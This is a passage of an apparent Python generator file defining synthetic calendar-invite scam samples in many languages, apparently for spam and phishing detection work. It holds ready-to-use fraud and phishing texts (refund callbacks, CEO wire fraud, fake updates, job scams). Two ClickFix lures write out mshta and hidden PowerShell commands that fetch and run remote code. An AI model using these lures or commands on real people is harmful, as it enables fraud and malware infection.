S(C, "en", "antivirus auto-renewal invoice callback lure", "free", tollfree=True, clients=["yahoo", "icloud", "google"], when="soon",
  summary="Norton 360 auto-renewal invoice #{num}",
  body="INVOICE #{num}\nProduct: Norton 360 Deluxe (5 devices) - 1 year\nTotal: $289.99\n\nYour subscription has been renewed and will be charged within 24 hrs. To cancel or request a refund call {phone}.")
S(C, "en", "fake payment-sent notice with support number", "free", tollfree=True, clients=["icloud", "outlook", "google"], when="now",
  summary="You sent $749.00 USD to Coinbase",
  body="Transaction ID: 8{num}PP\nAmount: $749.00 USD\nTo: Coinbase Global\n\nIf you don't recognize this payment, contact PayPal support at {phone} (Mon-Sun, 24 hrs).")
S(C, "en", "security-suite order confirmation callback lure", "free", tollfree=True, clients=["outlook", "thunderbird", "yahoo"], when="soon",
  summary="McAfee Total Protection - order confirmation",
  body="Dear customer,\nyour order has been processed successfully.\n\nProduct: McAfee Total Protection (10 devices)\nTerm: 3 years\nAmount charged: $349.00\n\nQuestions about your order? Call {phone}")
S(C, "en", "membership charge callback lure from compromised mailbox", "compromised", tollfree=True, clients=["zimbra", "sogo", "nextcloud", "thunderbird"],
  when="soon",
  summary="Amazon Prime annual membership charged $139.00",
  body="Your Amazon Prime membership has been renewed for another year. A charge of $139.00 will appear on your statement.\n\nTo cancel auto-renewal call {phone}.")
S(C, "en", "Defender subscription callback lure, number only in location", "free", tollfree=True, clients=["thunderbird", "outlook", "google"],
  when="soon",
  summary="Microsoft Defender subscription activated",
  body="Your subscription has been activated and your account has been charged $299.99. Order ref {ref}.",
  loc="Billing support {phone}")
S(C, "en", "electronics order-confirmation callback lure", "free", tollfree=True, clients=["google", "icloud"], when="soon",
  summary="Order #BBY01-{num6} confirmation: MacBook Air 15\"",
  body="Thank you for your order!\n\nItem: Apple MacBook Air 15\" M3 16GB\nQty: 1\nTotal: $1,649.00\nShipping to your address on file.\n\nDidn't place this order? Call us immediately: {phone}")
S(C, "en", "payroll-software renewal callback lure", "lookalike", dom="intuit-billing-center.com", fn="QuickBooks Billing", tollfree=True,
  clients=["booking", "handrolled", "outlook"], when="soon",
  bbrand=dict(name="QuickBooks Billing", domain="intuit-billing-center.com", prodid="-//Billing//Notifications//EN", color="#2ca01c",
              footer="This is an automated notification."),
  summary="QuickBooks Payroll Enhanced - renewal processed",
  body="Your subscription renewal has been processed. If you believe this charge is an error, please call our billing team.",
  rows=[("Plan", "Payroll Enhanced (annual)"), ("Amount", "$1,198.00"), ("Billing help", "{phone}")])
S(C, "fr", "French antivirus renewal callback lure", "free", when="soon", phone_fixed="+33 1 99 00 47 21",
  summary="Votre abonnement Norton a été renouvelé – 349,99 €",
  body="Bonjour,\nVotre abonnement Norton 360 a été renouvelé automatiquement pour un montant de 349,99 €.\nSi vous n'êtes pas à l'origine de ce renouvellement, appelez notre service client au {phone} sous 24 heures.")
S(C, "de", "German antivirus invoice callback lure", "free", when="soon",
  summary="Rechnung: Verlängerung Ihres McAfee-Abonnements",
  body="Sehr geehrte Kundin, sehr geehrter Kunde,\nIhr McAfee-Abonnement wurde verlängert. Betrag: 289,99 €.\nFalls Sie diese Verlängerung nicht veranlasst haben, rufen Sie uns an: {phone}")
S(C, "nl", "Dutch protection-plan renewal callback lure", "free", when="soon",
  summary="Bevestiging: jaarlijkse verlenging Geek Squad",
  body="Beste klant,\nUw Geek Squad-abonnement is verlengd. Er wordt € 299,00 van uw rekening afgeschreven.\nNiet akkoord? Bel binnen 24 uur: {phone}")
S(C, "es", "Spanish antivirus renewal callback lure", "free", when="soon",
  summary="Renovación automática: Norton 360 – 299,99 €",
  body="Estimado cliente:\nSu suscripción a Norton 360 se ha renovado por 299,99 €.\nSi no reconoce este cargo, llame al {phone} para solicitar el reembolso.")

# =============================================================================== fake-update-lure
C = "fake-update-lure"
S(C, "en", "Zoom-looking invitation that pushes a fake client update", "lookalike", dom="zoom-meetings-update.com", fn="Zoom",
  clients=["zoom", "handrolled", "booking"], yr=(2020, 2026), when="soon", zoom_mimic=True,
  subject="Meeting invitation: Q{q} planning call",
  summary="Q{q} planning call",
  body="Your Zoom client is out of date. A required update must be installed before you can join this meeting.\n\nUpdate and join: https://zoom-meetings-update.com/download/ZoomInstaller.exe?mid={num}",
  zoom_link="https://zoom-meetings-update.com/join/{num}")
S(C, "en", "Teams invitation from compromised tenant pointing to a fake audio-driver update", "compromised",
  clients=["outlook"], yr=(2020, 2026), when="soon",
  summary="Quick sync - agenda attached",
  body="Hi,\nBefore joining please install the updated Teams audio component, otherwise you may not hear the other participants:\nhttps://teams-audio-fix.com/TeamsAudioSetup.msi\n\nThanks,\n{sfirst}",
  loc="Microsoft Teams Meeting")
S(C, "en", "ClickFix-style 'verify you are human' paste-command lure", "lookalike", dom="meet-verify-access.com", fn="Meeting Access",
  clients=["handrolled", "booking"], yr=(2024, 2026), when="now",
  summary="Verification required to join the meeting",
  body="To protect this meeting, please verify you are human:\n\n1. Press Windows + R\n2. Paste (Ctrl+V) the verification code that was copied to your clipboard\n3. Press Enter\n\nIf nothing was copied, paste this:  mshta https://meet-verify-access.com/captcha/v{rnd}\n\nThen click Join: https://meet-verify-access.com/j/{num}",
  conf=[dict(uri="https://meet-verify-access.com/j/{num}", label="Join meeting", feature="VIDEO")])
S(C, "en", "Webex add-in lure from look-alike domain via Thunderbird-style mail", "lookalike", dom="webex-addin-download.net", fn="Cisco Webex",
  clients=["thunderbird", "handrolled", "booking", "outlook"], when="soon",
  summary="Webex: install the new meeting add-in to join",
  body="The organizer requires the latest Webex meeting add-in. Install it before the meeting starts:\nhttps://webex-addin-download.net/WebexSetup_{rnd}.exe",
  url="https://webex-addin-download.net/WebexSetup_{rnd}.exe")
S(C, "en", "calendar invitation telling the guest to update the browser", "free", clients=["google"], yr=(2019, 2026), when="soon",
  summary="Browser update needed to join this meeting",
  body="Your browser version is not supported by the meeting. Download the latest update here before joining:\nhttps://storage.googleapis.com/browser-upd-{rnd}/ChromeUpdate.html", meet=True)
S(C, "en", "old-style 'plugin required to view recording' lure", "free", clients=["icloud", "yahoo", "outlook"], yr=(2016, 2019), when="soon",
  summary="Meeting recording available - plugin required",
  body="The recording of your meeting is available. Adobe Flash Player is required to view it.\nInstall: http://flashplayer-update-center.net/install")
S(C, "de", "German fake Teams-version lure", "lookalike", dom="teams-version-update.de", fn="Microsoft Teams",
  clients=["outlook", "handrolled", "booking", "thunderbird"], yr=(2020, 2026), when="soon",
  summary="Microsoft Teams: neue Version erforderlich",
  body="Ihre Teams-Version wird ab dem {day} nicht mehr unterstützt. Bitte installieren Sie das Update vor der Besprechung:\nhttps://teams-version-update.de/download/TeamsSetup_x64.exe")
S(C, "ru", "Russian fake Zoom-client update lure", "vps", clients=["handrolled", "thunderbird", "zoom", "booking"], yr=(2020, 2026), when="soon", zoom_mimic=True,
  summary="Обновите клиент Zoom для подключения к конференции",
  body="Для участия в конференции необходимо обновить клиент Zoom до последней версии.\nСкачать обновление: https://zoom-obnovlenie.ru/ZoomInstallerFull.exe\nИдентификатор конференции: {zoomid}")
S(C, "es", "Spanish fake browser-update lure with paste-command step", "compromised", clients=["zimbra", "sogo", "nextcloud", "thunderbird"],
  yr=(2024, 2026), when="soon",
  summary="Actualización obligatoria del navegador para la reunión",
  body="Para acceder a la reunión es necesario verificar su navegador.\nPulse Windows + R, pegue el siguiente texto y pulse Intro:\npowershell -w hidden -c \"iwr https://verif-navegador.com/v.ps1 | iex\"\nDespués, vuelva a abrir el enlace de la reunión.")
S(C, "zh-TW", "Traditional-Chinese meeting-plugin lure", "free", when="soon",
  summary="會議軟體需要更新，請先安裝外掛程式",
  body="您好，\n為確保視訊會議順利進行，請於會議前安裝最新版會議外掛程式：\nhttps://meeting-plugin-tw.com/setup.exe\n謝謝配合。")
S(C, "ko", "Korean security-plugin lure", "free", when="soon",
  summary="회의 참여 전 보안 플러그인 설치 필요",
  body="안녕하세요.\n화상회의 참여를 위해 최신 보안 플러그인 설치가 필요합니다.\n설치하기: https://meeting-security-kr.com/plugin/setup.exe\n설치 후 회의 링크로 다시 접속해 주세요.")

# =============================================================================== bec
C = "bec"
S(C, "en", "CEO gift-card request from free-mail account using the boss's name", "free", clients=["google", "outlook", "icloud"],
  rcpt_kind="org", when="now", dur=15,
  summary="Quick favour",
  body="Hi {rfirst},\n\nare you available? I need you to get some gift cards for client appreciation today, I'm in meetings all afternoon and can't talk. Reply with your cell number and I'll text you the details.\n\nThanks\n{sname}\nSent from my iPhone")
S(C, "en", "urgent confidential wire request from a typo-squatted copy of the recipient's domain", "lookalike", dom="RLOOK",
  rcpt_kind="org", clients=["outlook", "google", "thunderbird"], when="now", dur=30,
  summary="Confidential - acquisition payment",
  body="{rfirst},\n\nWe are finalising a confidential acquisition and I need a wire processed today before cut-off. Our attorney will send you the beneficiary details. Please keep this between us until the announcement.\n\nAmount: {amount}\n\nRegards,\n{sname}", amt=(38000, 96000, "$"))
S(C, "en", "supplier bank-detail change from a compromised vendor mailbox", "compromised", rcpt_kind="org", clients=["outlook", "zimbra", "google", "sogo"],
  when="soon",
  summary="Updated bank details - effective next payment run",
  body="Dear Accounts Payable,\n\nPlease be advised that our banking details have changed due to an audit. Kindly update your records and make all future payments, including the open invoices, to:\n\nBank: Revolut Business\nIBAN: {iban}\nBIC: REVOGB21\n\nThe attached letter confirms the change. Please confirm once updated.\n\nKind regards,\n{sname}\nAccounts Receivable, {sorg}", iban_cc="LT")
S(C, "en", "payroll direct-deposit change posing as an employee", "free", clients=["outlook", "yahoo", "google"], rcpt_kind="org", when="soon",
  summary="Direct deposit change before next payroll",
  body="Hello,\n\nI changed banks and would like my salary paid into my new account from the next payroll. Can you let me know what you need from me? I can send the new account details right away.\n\nThank you,\n{sname}")
S(C, "en", "invoice settlement request spoofing the recipient's own domain", "spoof", dom="RCPT", dmarc="NONE", rcpt_kind="org",
  clients=["handrolled", "outlook", "thunderbird"], when="now",
  summary="Invoice {ref} - settle today",
  body="Please process payment of invoice {ref} today, the supplier has threatened to stop deliveries. Bank details are below, use these and not the ones in the ERP:\n\nAccount name: Global Trade Partners Ltd\nIBAN: {iban}\n\nConfirm when done.\n{sname}", iban_cc="GB")
S(C, "en", "meeting invitation for a 'call with legal counsel' about a secret deal", "lookalike", dom="whitford-legal-advisors.com",
  fn="Whitford Legal Advisors", clients=["google", "outlook", "zoom"], rcpt_kind="org", when="soon",
  summary="Confidential: call with legal counsel re: acquisition",
  body="Dear {rfirst},\n\nYour CEO has authorised us to coordinate a time-sensitive transaction. This matter is under NDA; please do not discuss it internally. We will call you at the time below to walk you through the payment.\n\nWhitford Legal Advisors")
S(C, "en", "vendor W-9 and remittance-detail update from compromised mailbox", "compromised", rcpt_kind="org", clients=["zimbra", "nextcloud", "thunderbird", "outlook"],
  when="soon",
  summary="Updated W-9 and remittance details",
  body="Good morning,\n\nplease find our updated W-9. Our remittance account changed, new ACH details:\nRouting: 0{num}\nAccount: {num}{n2}\n\nPlease update before releasing payment for PO {ref}.\n\nBest,\n{sname}")
S(C, "de", "German CEO-fraud transfer request", "lookalike", dom="RLOOK", rcpt_kind="org", clients=["outlook", "thunderbird", "google"], when="now",
  summary="Vertraulich: Überweisung heute noch erforderlich",
  body="Hallo {rfirst},\n\nich benötige heute noch Ihre Unterstützung bei einer vertraulichen Überweisung im Rahmen einer Firmenübernahme. Bitte sprechen Sie mit niemandem darüber, bis die Übernahme offiziell ist.\nBetrag: {amount}\nDie Bankdaten erhalten Sie in Kürze von unserem Anwalt.\n\nBeste Grüße\n{sname}", amt=(45000, 120000, "€"))
S(C, "fr", "French supplier RIB-change fraud", "compromised", rcpt_kind="org", when="soon",
  summary="Changement de coordonnées bancaires – factures en cours",
  body="Bonjour,\n\nSuite à un changement de banque, merci de bien vouloir effectuer les prochains règlements, y compris les factures en attente, sur notre nouveau compte :\nIBAN : {iban}\nBIC : BNPAFRPP\n\nVous trouverez le nouveau RIB en pièce jointe.\nCordialement,\n{sname}\nService comptabilité – {sorg}", iban_cc="FR")
S(C, "it", "Italian supplier bank-detail change", "compromised", rcpt_kind="org", when="soon",
  summary="Aggiornamento coordinate bancarie fornitore",
  body="Gentili,\n\nvi informiamo che a partire da oggi le nostre coordinate bancarie sono cambiate. Vi preghiamo di effettuare i pagamenti delle fatture aperte sul nuovo conto:\nIBAN: {iban}\n\nRestiamo a disposizione.\n{sname}\nAmministrazione", iban_cc="IT")
S(C, "nl", "Dutch urgent confidential payment request", "free", clients=["outlook", "google", "icloud"], rcpt_kind="org", when="now",
  summary="Spoed: betaling vandaag uitvoeren",
  body="Hoi {rfirst},\n\nkun jij vandaag nog een betaling voor me uitvoeren? Het is vertrouwelijk, ik zit in een overleg en ben niet telefonisch bereikbaar. Ik stuur je zo de gegevens.\n\nGroet,\n{sname}")
S(C, "he", "Hebrew urgent transfer request", "free", clients=["google", "outlook"], rcpt_kind="org", when="now",
  summary="דחוף: העברה בנקאית היום",
  body="היי {rfirst},\nאני צריך שתבצע/י היום העברה בנקאית דחופה לספק חדש. זה חסוי, אל תשתף/י אף אחד עד שאאשר. אני בפגישה ולא זמין בטלפון, תענה/י לי כאן.\n{sname}")
S(C, "ja", "Japanese confidential remittance request (CEO fraud)", "lookalike", dom="RLOOK", rcpt_kind="org", clients=["outlook", "thunderbird", "google"],
  when="now",
  summary="【至急・社外秘】本日中の送金のお願い",
  body="{rlast}さん\n\nお疲れ様です。\n現在進めている買収案件の関係で、本日中に海外口座への送金が必要になりました。\n本件は社外秘のため、他の方には共有しないでください。\n詳細は弁護士から連絡させます。\n\n{sname}")

# =============================================================================== advance-fee
C = "advance-fee"
S(C, "en", "inheritance claim advance-fee lure", "free", clients=["google", "outlook", "yahoo"], when="week",
  summary="Inheritance claim - late Mr. {slast} estate (US$8.5M)",
  body="Dear {rfirst},\n\nI am Barrister {sname}, personal attorney to the late Mr. {slast}, who died in a car accident with his family. He left a deposit of US$8,500,000 with no next of kin. As you share the same surname region, I wish to present you as beneficiary. Reply with your full name, phone and address to proceed.\n\nYours faithfully,\nBarr. {sname}")
S(C, "en", "UN compensation payment advance-fee lure", "free", clients=["yahoo", "outlook", "icloud"], when="week",
  summary="UN compensation payment approved for you",
  body="This is to inform you that the United Nations compensation committee has approved the payment of US$1,500,000 to you as a scam victim. Contact the paying officer Mr. Paul Edwards on {wa} with your full details to receive your ATM card.")
S(C, "en", "ATM-card dispatch advance-fee lure with 'delivery fee'", "free", clients=["outlook", "yahoo", "google"], when="soon",
  summary="Your ATM card of $2.5M has been dispatched",
  body="Attention Beneficiary,\n\nyour ATM card loaded with $2,500,000 has been dispatched via courier. The only outstanding cost is the delivery fee of $185. Contact the courier desk: courier.desk{n3}@proton.me")
S(C, "en", "strictly-confidential business proposal via a list", "free", listable=True, clients=["list", "yahoo", "icloud"], when="week",
  summary="Business proposal - strictly confidential",
  body="Good day,\n\nI am a senior officer in a bank and I have a business proposal involving the transfer of US$12,600,000 that will be of mutual benefit to us. Kindly reply for more details.\n\nRegards,\nMr. Kwame Mensah")
S(C, "en", "guaranteed-loan advance-fee lure", "vps", clients=["handrolled", "list", "booking"], listable=True, when="soon", fold="tab",
  hand=dict(prodid="-//Calendar//Invite 1.0//EN", layout="single"), quirks=["no-method"],
  summary="Loan offer at 2% - no credit check",
  body="Do you need a loan to pay off debts or start a business? We offer loans at 2% interest rate, no credit check, from $5,000 to $5,000,000.\nProcessing fee applies. Email: loans.desk@mailbox-finance.online")
S(C, "es", "Spanish unclaimed-inheritance lure", "free", when="week",
  summary="Herencia sin reclamar – contacte con nuestro bufete",
  body="Estimado/a {rfirst}:\nNuestro bufete gestiona la herencia de un cliente fallecido sin herederos conocidos por valor de 4.750.000 €. Usted comparte apellido con el difunto y podemos presentarle como beneficiario. Responda con sus datos para iniciar el trámite.\nAtentamente,\nLic. {sname}")
S(C, "pt", "Portuguese charity-donation lure", "free", when="week",
  summary="Doação de US$ 1.500.000 para você",
  body="Olá,\nSou a Sra. {sname}, estou com uma doença terminal e decidi doar parte da minha fortuna para caridade. Você foi escolhido(a) para receber US$ 1.500.000. Responda para receber as instruções.\nDeus te abençoe.")
S(C, "ar", "Arabic confidential investment-partnership lure", "free", when="week", listable=True,
  summary="عرض شراكة استثمارية سرّية – 15 مليون دولار",
  body="السلام عليكم،\nأنا مستشار مالي لعائلة ثرية ترغب في استثمار مبلغ 15 مليون دولار في بلدكم بسرية تامة. ستحصل على عمولة 30٪. الرجاء الرد مع رقم هاتفك للتواصل.\nمع خالص التحية")
S(C, "ru", "Russian international-lottery win lure", "free", when="week",
  summary="Вы выиграли в международной лотерее – 750 000 €",
  body="Уважаемый победитель!\nВаш адрес электронной почты выиграл 750 000 € в ежегодной международной лотерее. Для получения выигрыша свяжитесь с агентом и оплатите сбор за оформление.\nАгент: {sname}, тел. {phone2}")
S(C, "fr", "French humanitarian-donation lure", "free", when="week",
  summary="Don humanitaire de 950 000 € – Mme {slast}",
  body="Bonjour,\nJe suis Mme {sname}, veuve et gravement malade. Je souhaite faire don de 950 000 € à une personne honnête pour des œuvres caritatives. Répondez-moi avec vos coordonnées complètes.\nQue Dieu vous bénisse.")

# =============================================================================== task-job-scam
C = "task-job-scam"
S(C, "en", "remote 'data annotation' job interview booked through an abused scheduling service", "service", brand="slotly",
  clients=["booking"], yr=(2021, 2026), when="soon", method="REQUEST",
  subject="Confirmed: Remote Data Annotation Assistant - interview with Talent Team",
  summary="Remote Data Annotation Assistant - interview",
  body="Hi {rfirst},\n\nthank you for your interest. This is a flexible remote role paying $250-$800 per day. The interview is held on Telegram: please add our recruiter {tg} and send the code {code} before the call.",
  rows=[("Event", "Remote Data Annotation Assistant - interview"), ("Invitee", "{rname}"), ("When", "{date}"), ("Where", "Telegram chat")],
  loc="Telegram: {tg}")
S(C, "en", "part-time product-reviewer job lure moving to Telegram", "free", clients=["google", "icloud", "outlook", "zoom"], yr=(2021, 2026), when="soon",
  summary="Interview: Part-time Product Reviewer (remote)",
  body="Hello, we received your CV from an online job board. We are hiring part-time product reviewers, 60-90 minutes a day, daily pay $120-$450. Please contact our HR on Telegram {tg} to start.")
S(C, "en", "'like YouTube videos' task-scam onboarding", "free", clients=["outlook", "yahoo", "google"], yr=(2022, 2026), when="now",
  summary="HR onboarding: complete your first task",
  body="Welcome! Your first task: like and subscribe to 3 YouTube videos and send screenshots to your mentor on WhatsApp {wa}. You will receive $15 per task. Start now, limited positions today.")
S(C, "en", "work-from-home job offer using a big retailer's name", "free", clients=["yahoo", "icloud", "google"], yr=(2021, 2026), when="soon",
  summary="Job offer - Work From Home (Amazon partner)",
  body="Congratulations, your profile is approved for our Work From Home program. Earn $300-$600/day, 30 minutes daily, payment the same day.\nContact our coordinator on WhatsApp: https://wa.me/{rnd2}")
S(C, "en", "fake recruiter 'next steps' call from a registered look-alike recruiting domain", "lookalike", dom="talentbridge-careers.net",
  fn="TalentBridge Careers", clients=["zoom", "google", "outlook", "booking"], yr=(2021, 2026), when="soon",
  summary="Next steps: Remote Customer Success Representative",
  body="Dear {rfirst},\n\nYour application has been shortlisted. The interview will be conducted by text chat. Please download the Signal app and message our hiring manager at {wa}. Equipment for your home office will be purchased using a check we will send you.")
S(C, "hi", "Hindi work-from-home daily-earnings task lure", "free", yr=(2021, 2026), when="soon",
  summary="वर्क फ्रॉम होम जॉब – रोज़ ₹3000 कमाएं",
  body="नमस्ते,\nआपको हमारी कंपनी में पार्ट-टाइम काम के लिए चुना गया है। रोज़ 30 मिनट काम करें और ₹3000 तक कमाएं। यूट्यूब वीडियो लाइक करने का काम है।\nव्हाट्सएप पर संपर्क करें: {wa}")
S(C, "zh", "Chinese order-brushing part-time job lure", "free", yr=(2021, 2026), when="soon",
  summary="兼职刷单 日结300-800元",
  body="招聘兼职，手机操作，每天1-2小时，日结300-800元，无需押金。\n添加客服微信/Telegram：{tg}\n名额有限，先到先得。")
S(C, "tr", "Turkish work-from-home lure", "free", yr=(2021, 2026), when="soon",
  summary="Evden çalışma fırsatı: günlük 1.500 TL",
  body="Merhaba,\nİnternetten yapılan basit görevlerle günlük 1.500 TL kazanabilirsiniz. Deneyim gerekmez.\nDetaylar için WhatsApp: {wa}")
S(C, "vi", "Vietnamese online collaborator task scam", "free", yr=(2021, 2026), when="soon", listable=True,
  summary="Tuyển cộng tác viên online – thu nhập 500k-2 triệu/ngày",
  body="Công ty cần tuyển cộng tác viên làm nhiệm vụ online trên điện thoại, thu nhập 500.000đ - 2.000.000đ/ngày, nhận lương ngay trong ngày.\nLiên hệ Zalo/Telegram: {tg}")
S(C, "th", "Thai online-job task scam", "free", yr=(2021, 2026), when="soon",
  summary="งานออนไลน์ รายได้วันละ 1,500 บาท",
  body="รับสมัครพนักงานทำงานออนไลน์ผ่านมือถือ ไม่ต้องมีประสบการณ์ รายได้วันละ 1,500 บาท โอนทุกวัน\nสนใจแอดไลน์: @job{rnd}")
S(C, "es", "Spanish remote-job lure moving to WhatsApp", "vps", clients=["handrolled", "booking", "nextcloud", "sogo"], yr=(2021, 2026), when="soon",
  summary="Oferta de empleo remoto – 300 €/día",
  body="Hola,\nHemos revisado su perfil y nos gustaría ofrecerle un puesto a tiempo parcial desde casa. Salario: 300 € al día. Para la entrevista, escriba a nuestra responsable de RR. HH. por WhatsApp: {wa}")

# =============================================================================== compromised-doc-share
C = "compromised-doc-share"
S(C, "en", "partner mailbox invitation whose only payload is a document-portal link in LOCATION", "compromised", rcpt_kind="org",
  clients=["outlook"], when="soon",
  summary="{sorg} - Proposal Document for Review",
  body="Hello,\n\nPlease review the proposal ahead of our meeting.\n\nRegards,\n{sname}",
  loc="https://{sdomain}.sharepoint-docs-portal.com/:b:/g/proposal")
S(C, "en", "compromised Workspace account sharing an 'RFP' through calendar", "compromised", rcpt_kind="org", clients=["google"], when="soon",
  summary="Shared: RFP_Final.pdf via OneDrive",
  body="{sname} shared a file with you.\n\nRFP_Final.pdf\nOpen: https://1drv-ms-share.com/b/s!{tok}\n\nThis link will only work for the direct recipients.")
S(C, "en", "ShareFile-style invoice share from compromised partner", "compromised", rcpt_kind="org", clients=["zimbra", "sogo", "nextcloud", "thunderbird"],
  when="soon",
  summary="{sname} sent you Invoice_{ref}.pdf",
  body="{sname} has sent you a document using ShareFile.\n\nInvoice_{ref}.pdf\n\nDownload: https://sharefile-secure-docs.com/d-{tok8}\n\nPlease let me know when you've had a chance to review.")
S(C, "en", "'new fax received' lure from compromised mailbox with inline HTML attachment", "compromised", rcpt_kind="org",
  clients=["handrolled", "booking"], when="now", infra="webhost",
  bbrand=dict(name="Fax2Mail", domain="fax2mail-service.com", prodid="-//Fax2Mail//Notification 2.1//EN", color="#b3121f",
              footer="Fax2Mail - digital fax delivery. Do not reply to this message."),
  summary="New fax document received (3 pages)",
  body="You have received a new fax document. Open the attached file to view it.",
  attach=[dict(binary=HTML_REDIRECT % b"fax", fmttype="text/html", filename="FAX_Document.html")])
S(C, "en", "updated payment schedule with malicious ATTACH link", "compromised", rcpt_kind="org", clients=["nextcloud", "icloud", "thunderbird"],
  when="soon",
  summary="Please review: updated payment schedule",
  body="Hi,\n\nattached is the updated payment schedule we discussed. Please review before our call.\n\n{sname}",
  attach=[dict(uri="https://docs-review-secure.com/f/{tok8}/Payment_Schedule.pdf", fmttype="application/pdf", filename="Payment_Schedule.pdf")])
S(C, "en", "project-files transfer link from compromised partner, URL property", "compromised", rcpt_kind="org",
  clients=["thunderbird", "sogo", "icloud"], when="soon",
  summary="Project files - Dropbox Transfer",
  body="Hi {rfirst}, sending over the project files as promised. Link below (expires in 7 days).\n\nCheers,\n{sfirst}",
  url="https://dropbox-transfer-files.com/t/{tok}")
S(C, "de", "German tender-document share from compromised partner", "compromised", rcpt_kind="org", when="soon",
  summary="Angebot / Ausschreibung – bitte prüfen",
  body="Guten Tag,\n\nanbei erhalten Sie unser Angebot zur aktuellen Ausschreibung. Das Dokument ist aus Datenschutzgründen geschützt:\nhttps://dokumente-freigabe.com/{tok8}\n\nMit freundlichen Grüßen\n{sname}\n{sorg}")
S(C, "it", "Italian quote-document share from compromised mailbox", "compromised", rcpt_kind="org", when="soon",
  summary="Documenti condivisi: Preventivo {year}",
  body="Buongiorno,\n\nle ho condiviso il preventivo richiesto. Può visualizzarlo al seguente link:\nhttps://onedrive-condivisione.com/doc/{tok8}\n\nCordiali saluti\n{sname}")
S(C, "pl", "Polish corrected-invoice share from compromised mailbox", "compromised", rcpt_kind="org", when="soon",
  summary="Udostępniono dokument: Faktura korygująca",
  body="Dzień dobry,\n\nw załączeniu przesyłam fakturę korygującą. Dokument dostępny jest pod linkiem:\nhttps://faktury-dokumenty.online/pl/{tok8}\n\nPozdrawiam\n{sname}")
S(C, "el", "Greek project-offer share from compromised mailbox", "compromised", rcpt_kind="org", when="soon",
  summary="Κοινοποίηση εγγράφου: Προσφορά έργου",
  body="Καλησπέρα σας,\n\nσας έχει κοινοποιηθεί η προσφορά για το έργο. Μπορείτε να τη δείτε εδώ:\nhttps://sharepoint-eggrafa.com/prosfora/{tok8}\n\nΜε εκτίμηση,\n{sname}")
S(C, "he", "Hebrew price-quote share from compromised mailbox", "compromised", rcpt_kind="org", when="soon",
  summary="שיתוף מסמך: הצעת מחיר לעיון",
  body="שלום,\n\nשיתפתי איתך את הצעת המחיר המעודכנת. ניתן לצפות במסמך בקישור הבא:\nhttps://docs-share-il.com/v/{tok8}\n\nבברכה,\n{sname}")
S(C, "ja", "Japanese estimate-document share from compromised mailbox", "compromised", rcpt_kind="org", when="soon",
  summary="【共有】見積書をご確認ください",
  body="いつもお世話になっております。\nご依頼いただいておりました見積書を共有いたします。\n下記リンクよりご確認ください。\nhttps://mitsumori-share.com/d/{tok8}\n\nよろしくお願いいたします。\n{sname}")

# =============================================================================== nagging-payload
C = "nagging-payload"
S(C, "en", "endless daily event with repeating alarms pushing antivirus renewal", "vps", clients=["handrolled"], when="now",
  rrule="FREQ=DAILY;INTERVAL=1", quirks=["no-method"],
  hand=dict(prodid="-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", layout="single"),
  alarms=[dict(min=0, repeat=50, duration="PT10M", desc="Your PC is at risk! Renew protection now"), dict(min=5, desc="Renew now")],
  summary="⚠ Your antivirus subscription has EXPIRED",
  body="Your device is not protected. Renew now to avoid virus infection: https://pc-protect-renew.online/renew")
S(C, "en", "far-future event with a stack of alarms", "free", clients=["icloud", "thunderbird", "yahoo"], when="far",
  alarms=[10, 60, 1440, 10080, 43200],
  summary="Claim your $500 reward before it expires",
  body="Your reward is reserved. Claim at https://reward-claim-center.click/{rnd}")
S(C, "en", "calendar file with thirty daily events telling the recipient the account is locked", "vps", clients=["handrolled", "booking"],
  when="now", method="PUBLISH", hand=dict(prodid="-//Apple Inc.//Mac OS X 10.14//EN", layout="mixed"), quirks=["lf-in-b64", "method-mismatch"],
  events=[dict(offset=i) for i in range(1, 30)],
  summary="Apple ID locked - verify now",
  body="Your Apple ID has been locked for security reasons. Verify: https://appleid-unlock-verify.com")
S(C, "en", "weekly-forever casino bonus invitation", "free", clients=["google"], when="soon", rrule="FREQ=WEEKLY;BYDAY=FR",
  summary="🎰 Friday bonus: 200 free spins waiting",
  body="Every Friday: deposit bonus 150% + 200 free spins. Log in: https://lucky-spins-friday.bet/bonus")
S(C, "zh", "Chinese casino promotion repeating daily with no end", "free", when="now", rrule="FREQ=DAILY",
  clients=["icloud", "google", "yahoo"],
  summary="澳门娱乐城 首存送100% 每日返水",
  body="澳门娱乐城官方推荐，首存即送100%，每日返水1.5%，24小时出款。\n网址：https://amyl-888.vip\n客服：{tg}")
S(C, "ru", "Russian payday-loan ad repeating hourly", "vps", clients=["handrolled", "nextcloud", "zimbra", "sogo", "list"], listable=True, when="now",
  rrule="FREQ=HOURLY;INTERVAL=2",
  summary="Займ онлайн без отказа – деньги за 5 минут",
  body="Одобрим займ до 30 000 ₽ без проверки кредитной истории. Первый займ под 0%.\nОформить: https://zaim-bez-otkaza.online")
S(C, "zh-TW", "Traditional-Chinese prize notice every day with several alarms", "vps", clients=["handrolled", "booking", "thunderbird", "nextcloud"],
  when="now", rrule="FREQ=DAILY;COUNT=365", alarms=[0, 5, 15, 30, 60],
  summary="【中獎通知】您已獲得iPhone 16一支",
  body="恭喜您！您已獲得 iPhone 16 一支，請於期限內完成領取手續：https://zhongjiang-tw.shop/{rnd}")
S(C, "hi", "Hindi instant-loan approval nag repeating for a year", "free", when="now", rrule="FREQ=DAILY;COUNT=365",
  clients=["google", "outlook", "yahoo", "icloud"],
  summary="लोन अप्रूव्ड – ₹5,00,000 तुरंत पाएं",
  body="बधाई हो! आपका ₹5,00,000 का पर्सनल लोन अप्रूव हो गया है। बिना कागज़ात, 10 मिनट में खाते में।\nअभी आवेदन करें: https://instant-loan-india.online/apply")
S(C, "ko", "Korean sports-betting ad repeating daily", "vps", clients=["handrolled", "thunderbird", "sogo", "zimbra"], when="now", rrule="FREQ=DAILY;INTERVAL=1",
  summary="[스포츠토토] 신규가입 3만원 지급",
  body="신규가입 즉시 3만원 지급, 매일 첫충 10%!\n안전 메이저 사이트: https://toto-major-kr.com\n문의 텔레그램 {tg}")
S(C, "ar", "Arabic phone-prize event set decades ahead, yearly forever", "free", when="far", rrule="FREQ=YEARLY",
  clients=["google", "outlook", "icloud", "yahoo"],
  summary="اربح آيفون 16 برو – سجّل الآن",
  body="شارك الآن في السحب الكبير واربح آيفون 16 برو. التسجيل مجاني: https://iphone-win-arab.online")

# =============================================================================== mass-invite
C = "mass-invite"
S(C, "en", "SEO-services pitch sent with every recipient in To and as attendee", "free", clients=["outlook", "yahoo"], att="mass:140", mass_to=True,
  when="week",
  summary="Rank #1 on Google in 30 days - free audit call",
